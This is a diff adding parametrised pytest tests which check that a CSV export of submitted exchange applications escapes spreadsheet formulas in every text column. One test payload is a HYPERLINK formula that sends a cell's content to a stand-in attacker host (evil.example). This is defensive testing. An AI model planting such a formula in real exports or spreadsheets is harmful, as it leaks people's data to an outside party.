@@ -199,6 +199,37 @@ def test_the_csv_has_one_row_per_submitted_application_and_no_formulas(client):
     assert by_reference["CX-2026-0003"]["funding requested"] == "775.00"
 
 
+def _set(obj, **values):
+    type(obj).objects.filter(pk=obj.pk).update(**values)
+
+
+# Each text column of the export, and how a person could put a formula in it.
+EXPORT_TEXT_COLUMNS = {
+    "applicant": lambda a, f: _set(a.applicant, name=f),
+    "e-mail": lambda a, f: _set(a.applicant, email=f + "@example.org"),
+    "organisation": lambda a, f: _set(a.organisation, name=f),
+    "sending cluster": lambda a, f: _set(a.sending_cluster, name=f),
+    "host cluster": lambda a, f: _set(a.host, name=f),
+    "offer": lambda a, f: _set(a.offer, topic=f),
+}
+
+
+@pytest.mark.parametrize("formula", ['=HYPERLINK("https://evil.example/?x="&A2,"Open")', " @A1"])
+@pytest.mark.parametrize("column", EXPORT_TEXT_COLUMNS)
+def test_a_formula_in_any_text_column_of_the_call_export_is_text(client, column, formula):
+    application = ApplicationFactory(
+        status=S.SUBMITTED, sending_cluster=ClusterFactory(), distance_km=812
+    )
+    EXPORT_TEXT_COLUMNS[column](application, formula)
+
+    client.force_login(StaffFactory())
+    response = client.get(reverse("exchange:call_export", kwargs={"pk": application.call_id}))
+    (row,) = list(csv.DictReader(io.StringIO(response.content.decode())))
+
+    assert row[column].startswith("'" + formula)
+    assert row["distance km"] == "812"  # numbers stay numbers
+
+
 # --- queries do not grow with the rows ----------------------------------------------------
 
 
